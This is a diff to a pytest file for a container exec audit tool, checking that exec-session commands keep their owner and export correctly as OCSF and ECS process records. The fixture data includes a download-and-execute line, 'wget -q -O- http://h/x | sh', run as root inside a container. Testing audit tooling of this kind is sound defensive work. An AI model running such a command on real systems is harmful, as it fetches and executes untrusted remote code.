@@ -12,7 +12,9 @@ from click.testing import CliRunner
 from listener.cli import main
 from sinks.base import EventFilter
 from sinks.sqlite import SQLiteTrail
+from tests import ocsf_schema
 from tests.exec_audit_log import AuditLog
+from tests.test_export import _ecs_problems
 
 CONTAINER = "c0ffee" + "0" * 58
 EXEC_ID = "e" * 64
@@ -47,7 +49,8 @@ def engine_exec(action: str, at_s: float) -> dict[str, Any]:
     }
 
 
-def test_commands_keep_their_owner_when_the_audit_log_runs_ahead(tmp_path: Path) -> None:
+def ingested(tmp_path: Path) -> Path:
+    """A trail of one exec session whose audit log runs a minute ahead of the Engine."""
     log = AuditLog()
     docker_cli(log, 0.00, 90, ["docker", "exec", "web", "sh", "-c", "wget -q -O- http://h/x | sh"])
     log.runc_exec(0.20, 400, SHIM, EXEC_ID, CONTAINER)
@@ -71,7 +74,11 @@ def test_commands_keep_their_owner_when_the_audit_log_runs_ahead(tmp_path: Path)
     )  # fmt: skip
 
     assert result.exit_code == 0, result.output
-    with SQLiteTrail(tmp_path / "t.db") as trail:
+    return tmp_path / "t.db"
+
+
+def test_commands_keep_their_owner_when_the_audit_log_runs_ahead(tmp_path: Path) -> None:
+    with SQLiteTrail(ingested(tmp_path)) as trail:
         stored = list(trail.query(EventFilter()))
     (start_event,) = [e for e in stored if e.action == "exec_start"]
     commands = [e for e in stored if e.action == "exec-command"]
@@ -80,3 +87,34 @@ def test_commands_keep_their_owner_when_the_audit_log_runs_ahead(tmp_path: Path)
         "sh -c wget -q -O- http://h/x | sh", "wget -q -O- http://h/x"
     ]  # fmt: skip
     assert {(e.attributes["session"], e.who.login) for e in commands} == {(EXEC_ID, "root")}
+
+
+def _exported(db: Path, fmt: str) -> list[dict[str, Any]]:
+    result = CliRunner().invoke(main, ["--db", str(db), "export", "--format", fmt])
+    assert result.exit_code == 0, result.output
+    return [json.loads(line) for line in result.stdout.splitlines()]
+
+
+def test_session_commands_export_as_processes_in_the_container(tmp_path: Path) -> None:
+    db = ingested(tmp_path)
+    ocsf = [r for r in _exported(db, "ocsf") if r["message"] == "container exec-command"]
+    assert len(ocsf) == 2
+    for record in ocsf:
+        assert ocsf_schema.problems(record) == [], record
+        assert (record["class_uid"], record["activity_name"]) == (1007, "Launch")
+        assert record["actor"]["user"]["name"] == "root"  # the exec's owner
+    wget = next(r for r in ocsf if r["process"]["pid"] == 404)
+    assert wget["process"]["cmd_line"] == "wget -q -O- http://h/x"
+    assert wget["process"]["parent_process"] == {"pid": 403}
+    assert wget["process"]["uid"].startswith(EXEC_ID + ":")
+    ecs = [d for d in _exported(db, "ecs") if d["event"]["action"] == "container-exec-command"]
+    assert len(ecs) == 2
+    for document in ecs:
+        assert _ecs_problems(document) == [], document
+        assert document["event"]["category"] == ["process"]
+        assert document["event"]["type"] == ["start"]
+    shell = next(d for d in ecs if d["process"]["pid"] == 403)
+    assert shell["process"]["args"] == ["sh", "-c", "wget -q -O- http://h/x | sh"]
+    assert shell["process"]["command_line"] == "sh -c 'wget -q -O- http://h/x | sh'"
+    assert shell["process"]["parent"] == {"pid": 400}
+    assert shell["user"]["name"] == "root"
